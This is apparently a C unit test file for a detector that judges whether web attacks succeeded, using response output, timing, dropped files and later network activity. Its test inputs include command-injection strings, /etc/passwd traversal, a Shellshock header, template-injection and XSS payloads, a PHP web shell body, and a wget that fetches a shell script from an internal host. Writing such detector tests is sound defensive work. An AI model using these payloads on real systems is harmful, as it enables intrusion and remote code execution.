/* What is proof and what is not: each guard by itself, and failure only where it shows. */
#include "../request.h"

#include <stdio.h>
#include <stdlib.h>

#include "triage/success/verdict.h"

struct court {
    struct recognition *recognition;
    struct baseline *baseline;
    struct arena arena;
    struct aftermath aftermath;
    struct attempts attempts;
    struct verdict verdict;
};

static struct recognition *recognition; /* takes a while to make: one for all */

static int recognition_set_up(void **state)
{
    (void)state;
    return recognition_new(&recognition);
}

static int recognition_tear_down(void **state)
{
    (void)state;
    recognition_free(recognition);
    return 0;
}

static int set_up(void **state)
{
    struct court *court = calloc(1, sizeof(*court));
    *state = court;
    if (!court)
        return -1;
    court->recognition = recognition;
    return baseline_new(1 << 24, &court->baseline);
}

static int tear_down(void **state)
{
    struct court *court = *state;
    baseline_free(court->baseline);
    arena_finish(&court->arena);
    free(court);
    return 0;
}

/* Somebody harmless got this answer. */
static void learn(struct court *court, const char *target, const char *answer)
{
    struct request request;
    request_make(&request, "GET", target, NULL, NULL, answer);
    assert_int_equal(baseline_learn(court->baseline, &request.exchange, NULL, (struct bytes){0}),
                     0);
}

/* … and it is kept what was asked for it. */
static void visit(struct court *court, const char *target, const char *answer)
{
    struct request request;
    request_make(&request, "GET", target, NULL, NULL, answer);
    assert_int_equal(verdict_learn(&request.exchange, NULL, court->baseline, &court->arena), 0);
}

static enum attack_outcome judge_request(struct court *court, const struct request *request)
{
    court->attempts = (struct attempts){0};
    assert_int_equal(
        attempts_find(court->recognition, &request->exchange, &court->arena, &court->attempts), 0);
    assert_true(court->attempts.count > 0);
    assert_int_equal(
        verdict_learn(&request->exchange, &court->attempts, court->baseline, &court->arena), 0);
    assert_int_equal(verdict_reach(&request->exchange, &court->attempts, court->baseline,
                                   &court->aftermath, &court->arena, &court->verdict),
                     0);
    return court->verdict.outcome;
}

static enum attack_outcome judge(struct court *court, const char *target, const char *answer)
{
    struct request request;
    request_make(&request, "GET", target, NULL, NULL, answer);
    return judge_request(court, &request);
}

#define UID "uid=33(www-data) gid=33(www-data) groups=33(www-data)"

static void output_that_only_the_command_prints_is_success(void **state)
{
    struct court *court = *state;
    assert_int_equal(judge(court, "/p?h=1;id", "<pre>PING 1\n" UID "\n</pre>"), OUTCOME_success);
    assert_int_equal(court->verdict.class, ATTACK_command_injection);
    assert_int_equal(court->verdict.proof.kind, EXPECT_pattern);
    assert_int_equal(court->verdict.proof.packet, 2);
    assert_int_equal(court->verdict.proof.offset, 12);
    assert_true(court->verdict.confidence > 0.99);
    assert_int_equal(judge(court, "/v?f=../../etc/passwd",
                           "root:x:0:0:root:/root:/bin/bash\nbin:x:2:2:bin:/bin:/bin/sh\n"),
                     OUTCOME_success);
    assert_int_equal(judge(court, "/t?n={{1337*1337}}", "hello 1787569"), OUTCOME_success);
}

static void packed_output_is_found(void **state)
{
    struct court *court = *state;
    assert_int_equal(judge(court, "/j?h=1;id", "{\"o\":\"x\\n" UID "\\n\"}"), OUTCOME_success);
    assert_int_equal(judge(court, "/k?h=1;id", "<p>uid&#61;0(root) gid&#61;0(root)"),
                     OUTCOME_success);
}

static void what_was_sent_and_came_back_proves_nothing(void **state)
{
    struct court *court = *state;
    assert_int_not_equal(judge(court,
                               "/p?h=1;id&q="
                               "uid%3D33(www-data)+gid%3D33(www-data)",
                               "you sent uid=33(www-data) gid=33(www-data)"),
                         OUTCOME_success);
    assert_int_not_equal(
        judge(court, "/e?h=;echo+abcdefghijklmnop", "no such host ;echo abcdefghijklmnop"),
        OUTCOME_success);
}

static void what_harmless_answers_show_proves_nothing(void **state)
{
    struct court *court = *state;
    learn(court, "/p?h=2", "<pre>" UID "</pre>");
    assert_int_not_equal(judge(court, "/p?h=1;id", "<pre>" UID "</pre>"), OUTCOME_success);
}

static void an_answer_that_comes_whatever_is_asked_proves_nothing(void **state)
{
    struct court *court = *state;
    static const char trap[] = "<pre>" UID "\nroot:x:0:0:root:/root:/bin/bash\n</pre>";
    (void)judge(court, "/pot?h=1;cat+/etc/passwd", trap);
    assert_int_not_equal(judge(court, "/pot?h=1;id", trap), OUTCOME_success);
}

static void the_status_alone_never_decides(void **state)
{
    struct court *court = *state;
    static const uint16_t statuses[] = {200, 301, 403, 404, 500, 503};
    for (size_t i = 0; i < sizeof(statuses) / sizeof(*statuses); i++) {
        struct request request;
        request_make(&request, "GET", "/blind?h=;touch+/tmp/x1y2z3", NULL, NULL, "");
        request.exchange.status = statuses[i];
        assert_int_equal(judge_request(court, &request), OUTCOME_unknown);
    }
    struct request request;
    request_make(&request, "GET", "/cgi-bin/t", "User-Agent: () { :;}; echo; id", NULL, UID);
    request.exchange.status = 500;
    assert_int_equal(judge_request(court, &request), OUTCOME_success);
}

static void failure_needs_a_whole_answer(void **state)
{
    struct court *court = *state;
    struct request request;
    request_make(&request, "GET", "/v?f=../../etc/passwd", NULL, NULL, "no such file");
    learn(court, "/v?f=a", "no such file");
    assert_int_equal(judge_request(court, &request), OUTCOME_failed);
    assert_int_equal(court->verdict.proof.kind, EXPECT_pattern);
    request.exchange.response.complete = false;
    assert_int_equal(judge_request(court, &request), OUTCOME_unknown);
    request.exchange.response.complete = request.exchange.response.cut = true;
    assert_int_equal(judge_request(court, &request), OUTCOME_unknown);
    request.exchange.response.cut = false;
    request.exchange.response.damaged = true;
    assert_int_equal(judge_request(court, &request), OUTCOME_unknown);
    request_make(&request, "GET", "/v?f=../../etc/passwd", NULL, NULL, NULL);
    assert_int_equal(judge_request(court, &request), OUTCOME_unknown);
}

static void answer_after(struct request *request, double seconds)
{
    request->exchange.response.start = request->exchange.response.end =
        request->exchange.request.end + (int64_t)(seconds * TIME_SECOND);
}

static void a_delay_counts_against_the_usual_times_only(void **state)
{
    struct court *court = *state;
    struct request request;
    request_make(&request, "GET", "/p?h=;sleep+7", NULL, NULL, "ok");
    answer_after(&request, 7.02);
    assert_int_not_equal(judge_request(court, &request), OUTCOME_success); /* nothing is known */
    for (int i = 0; i < 60; i++)
        learn(court, "/p?h=a", "ok");
    assert_int_equal(judge_request(court, &request), OUTCOME_success);
    assert_int_equal(court->verdict.proof.kind, EXPECT_delay);
    answer_after(&request, 20);
    assert_int_not_equal(judge_request(court, &request), OUTCOME_success);
    answer_after(&request, 0.01);
    assert_int_equal(judge_request(court, &request), OUTCOME_failed);
}

static void a_slow_page_is_no_delay(void **state)
{
    struct court *court = *state;
    struct request slow;
    for (int i = 0; i < 60; i++) {
        request_make(&slow, "GET", "/slow?h=a", NULL, NULL, "ok");
        answer_after(&slow, i % 3 ? 7.1 : 0.2);
        assert_int_equal(baseline_learn(court->baseline, &slow.exchange, NULL, (struct bytes){0}),
                         0);
    }
    request_make(&slow, "GET", "/slow?h=;sleep+7", NULL, NULL, "ok");
    answer_after(&slow, 7.02);
    assert_int_not_equal(judge_request(court, &slow), OUTCOME_success);
}

/* Pages beyond the room there is are counted, and those known before stay known. */
static void what_does_not_fit_is_told(void **state)
{
    struct court *court = *state;
    char target[32];
    baseline_free(court->baseline);
    assert_int_equal(baseline_new(1 << 16, &court->baseline), 0);
    learn(court, "/first", "the first page");
    assert_int_equal(baseline_unlearned(court->baseline), 0);
    for (int i = 0; i < 1000; i++) {
        snprintf(target, sizeof(target), "/page%d", i);
        learn(court, target, "a page of its own");
    }
    assert_in_range(baseline_unlearned(court->baseline), 1, 1000);
    struct request first;
    request_make(&first, "GET", "/first", NULL, NULL, "the first page");
    assert_int_equal(baseline_body_count(court->baseline, &first.exchange), 1);
}

static struct occurrence occurrence(enum occurrence_kind kind, double after, uint16_t port,
                                    const char *text)
{
    struct occurrence made = {.kind = kind,
                              .time = 100 * TIME_SECOND + (int64_t)(after * TIME_SECOND),
                              .packet = 9,
                              .destination_port = port,
                              .protocol = 6,
                              .text = bytes_of(text)};
    assert_true(ip_parse(BYTES("10.9.8.7"), &made.destination_ip));
    return made;
}

static void what_the_victim_does_afterwards_is_proof(void **state)
{
    struct court *court = *state;
    struct occurrence ping = occurrence(OCCURRENCE_icmp, 1, 0, NULL);
    court->aftermath.occurrences = (struct occurrences){&ping, 1, false, true};
    assert_int_equal(judge(court, "/p?h=;ping+-c1+10.9.8.7", "x"), OUTCOME_success);
    assert_int_equal(court->verdict.proof.packet, 9);
    assert_int_not_equal(judge(court, "/p?h=;ping+-c1+10.9.8.6", "x"), OUTCOME_success);
    court->aftermath.occurrences.contested = true; /* another attack may have caused it */
    assert_int_not_equal(judge(court, "/p?h=;ping+-c1+10.9.8.7", "x"), OUTCOME_success);
    ping.time = 99 * TIME_SECOND; /* before it was asked for */
    court->aftermath.occurrences.contested = false;
    assert_int_not_equal(judge(court, "/p?h=;ping+-c1+10.9.8.7", "x"), OUTCOME_success);
    struct occurrence fetch = occurrence(OCCURRENCE_request, 3, 81, "/a1b2.sh");
    court->aftermath.occurrences = (struct occurrences){&fetch, 1, true, true};
    assert_int_equal(judge(court, "/p?h=;wget+http://10.9.8.7:81/a1b2.sh", "x"), OUTCOME_success);
    assert_int_not_equal(judge(court, "/p?h=;wget+http://10.9.8.7:81/c3d4.sh", "x"),
                         OUTCOME_success);
}

static void a_dropped_file_that_is_there_is_proof(void **state)
{
    struct court *court = *state;
    struct request request, later;
    request_make(&request, "PUT", "/up/a1b2.php", NULL, "<?php system($_GET['c']);?>", "created");
    request_make(&later, "GET", "/up/a1b2.php", NULL, NULL, "ok");
    const struct exchange *list[] = {&later.exchange};
    court->aftermath.later = list;
    court->aftermath.later_count = 1;
    assert_int_equal(judge_request(court, &request), OUTCOME_success);
    assert_true(verdict_wants_later(&court->attempts, &later.exchange));
    later.exchange.status = 404;
    assert_int_not_equal(judge_request(court, &request), OUTCOME_success);
    later.exchange.target = BYTES("/up/other.php");
    assert_false(verdict_wants_later(&court->attempts, &later.exchange));
}

static void script_counts_where_a_browser_runs_it(void **state)
{
    struct court *court = *state;
    static const struct {
        const char *target, *answer;
        bool runs;
    } rows[] = {
        {"/s?q=<script>alert(7)</script>", "<p>no <script>alert(7)</script>", true},
        {"/s?q=<script>alert(7)</script>", "<p>no &lt;script&gt;alert(7)&lt;/script&gt;", false},
        {"/s?q=<script>alert(7)</script>", "<!-- <script>alert(7)</script> -->", false},
        {"/s?q=<script>alert(7)</script>", "<textarea><script>alert(7)</script></textarea>", false},
        {"/s?q=<script>alert(7)</script>", "<input value=\"<script>alert(7)</script>\">", false},
        {"/s?q=\"onfocus=alert(7)+a=\"", "<input value=\"\"onfocus=alert(7) a=\"\">", true},
        {"/s?q=<svg/onload=alert(7)>", "<svg/onload=alert(7)>", true},
        {"/s?q=javascript:alert(7)", "<a href=\"javascript:alert(7)\">x</a>", true},
        {"/s?q=\";alert(7)//", "<script>var a=\"\";alert(7)//\";</script>", true},
        {"/s?q=';alert(7)//", "<script>var a=\"';alert(7)//\";</script>", false},
        {"/s?q=<script>alert(7)</script>", "<script>other()</script>", false},
    };
    for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++)
        if ((judge(court, rows[i].target, rows[i].answer) == OUTCOME_success) != rows[i].runs)
            fail_msg("%s in %s", rows[i].target, rows[i].answer);
}

/* A page of a mebibyte full of handlers, and a request that might have brought each. */
static void a_page_full_of_script_ends_soon(void **state)
{
    struct court *court = *state;
    struct buffer page = {0}, target = {0};
    while (page.len < 1000000)
        buffer_put_format(&page, "<a onclick=\"f%zu()\">uid=1(</a>", page.len);
    buffer_put(&target, BYTES("/s?q=<svg/onload=alert(7)>"));
    for (int i = 0; i < 180; i++)
        buffer_put_format(&target, "&p%d=%%3Bid%%20%d%%26lt;", i, i);
    buffer_put_char(&page, 0);
    buffer_put_char(&target, 0);
    double start = cpu_seconds();
    assert_int_not_equal(judge(court, target.at, page.at), OUTCOME_success);
    assert_true(cpu_seconds() - start < 5);
    buffer_finish(&page);
    buffer_finish(&target);
}

/* An echo says only that this place is not the output; a page that answers by what is asked shows
 * more than an echo. */
static void an_echo_on_a_blind_page_is_no_failure(void **state)
{
    struct court *court = *state;
    visit(court, "/q?h=web1", "<p>We looked for <b>web1</b>.</p>");
    visit(court, "/q?h=db2", "<p>We looked for <b>db2</b>.</p>");
    assert_int_equal(judge(court, "/q?h=web1;id", "<p>We looked for <b>web1;id</b>.</p>"),
                     OUTCOME_unknown);
    visit(court, "/r?h=web1", "<p>web1 is up.</p>");
    visit(court, "/r?h=db2", "<p>Nobody knows db2.</p>");
    assert_int_equal(judge(court, "/r?h=web1;id", "<p>Nobody knows web1;id.</p>"), OUTCOME_failed);
}

/* The same place showed output before, so this command did not run; a pipe tells nothing of what is
 * printed before it. */
static void a_place_that_shows_output_is_conclusive(void **state)
{
    struct court *court = *state;
    visit(court, "/p?h=1", "<pre>PING 1</pre>");
    assert_int_equal(judge(court, "/p?h=1|id", "<pre>" UID "</pre>"), OUTCOME_success);
    assert_int_equal(judge(court, "/p?h=1%27|id%27", "<pre>PING 1</pre>"), OUTCOME_failed);
    assert_int_equal(judge(court, "/p?h=1;id", "<pre>PING 1</pre>"), OUTCOME_unknown);
    assert_int_equal(judge(court, "/p?h=1;id", "<pre>PING 1\n" UID "</pre>"), OUTCOME_success);
    assert_int_equal(judge(court, "/p?h=1%22;id;%22", "<pre>PING 1</pre>"), OUTCOME_failed);
}

/* … unless a cookie chose another page. */
static void what_is_chosen_beside_the_place_counts(void **state)
{
    struct court *court = *state;
    visit(court, "/p?h=1&v=2", "<pre>PING 1</pre>");
    assert_int_equal(judge(court, "/p?h=1;id&v=1", "<pre>" UID "</pre>"), OUTCOME_success);
    assert_int_equal(judge(court, "/p?h=1;id&v=2", "<pre>PING 1</pre>"), OUTCOME_unknown);
}

static void an_interpreter_that_cannot_read_it_says_so(void **state)
{
    struct court *court = *state;
    const char *answer = "<pre>sh: 1: Syntax error: Unterminated quoted string</pre>";
    assert_int_equal(judge(court, "/p?h=1%27;id%20%23", answer), OUTCOME_failed);
    assert_int_equal(judge(court, "/p?h=1%0aid%20%23%27", answer), OUTCOME_unknown);
}

/* web1 goes on with the output, not with the command's own name. */
static void output_joined_to_what_was_sent_is_success(void **state)
{
    struct court *court = *state;
    visit(court, "/p?h=web1", "<p>Host web1 not found</p>");
    visit(court, "/p?h=db2", "<p>Host db2 not found</p>");
    assert_int_equal(judge(court, "/p?h=web1$(hostname)", "<p>Host web1gate04 not found</p>"),
                     OUTCOME_success);
    assert_int_not_equal(judge(court, "/p?h=web1$(hostname)", "<p>Host web1hostname not found</p>"),
                         OUTCOME_success);
}

static void a_silent_web_shell_is_no_failure(void **state)
{
    struct court *court = *state;
    assert_int_equal(judge(court, "/img/up.php?cmd=id", ""), OUTCOME_unknown);
    assert_int_equal(judge(court, "/img/up2.php?cmd=id", "<?php system($_GET['cmd']); ?>"),
                     OUTCOME_failed);
}

/* What code evaluates to, its wait, and an expression that came back. */
static void evaluated_code_is_success(void **state)
{
    struct court *court = *state;
    assert_int_equal(judge(court, "/c?sum=process.version", "{\"value\":\"v18.19.0\"}"),
                     OUTCOME_success);
    assert_int_equal(judge(court, "/c?sum=4131*7013%2bprocess.pid*0", "{\"value\":28970703}"),
                     OUTCOME_success);
    assert_int_equal(judge(court, "/d?n={{4131*7013}}", "<p>Dear 28970703,</p>"), OUTCOME_success);
    visit(court, "/e?n=Ann", "<p>Dear Ann,</p>");
    assert_int_equal(judge(court, "/e?n={{4131*7013}}", "<p>Dear {{4131*7013}},</p>"),
                     OUTCOME_failed);
}

int main(void)
{
#define CASE(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)
    const struct CMUnitTest tests[] = {
        CASE(output_that_only_the_command_prints_is_success),
        CASE(packed_output_is_found),
        CASE(what_was_sent_and_came_back_proves_nothing),
        CASE(what_harmless_answers_show_proves_nothing),
        CASE(an_answer_that_comes_whatever_is_asked_proves_nothing),
        CASE(the_status_alone_never_decides),
        CASE(failure_needs_a_whole_answer),
        CASE(a_delay_counts_against_the_usual_times_only),
        CASE(a_slow_page_is_no_delay),
        CASE(what_does_not_fit_is_told),
        CASE(what_the_victim_does_afterwards_is_proof),
        CASE(a_dropped_file_that_is_there_is_proof),
        CASE(script_counts_where_a_browser_runs_it),
        CASE(a_page_full_of_script_ends_soon),
        CASE(an_echo_on_a_blind_page_is_no_failure),
        CASE(a_place_that_shows_output_is_conclusive),
        CASE(what_is_chosen_beside_the_place_counts),
        CASE(an_interpreter_that_cannot_read_it_says_so),
        CASE(output_joined_to_what_was_sent_is_success),
        CASE(a_silent_web_shell_is_no_failure),
        CASE(evaluated_code_is_success),
    };
    return cmocka_run_group_tests(tests, recognition_set_up, recognition_tear_down);
}
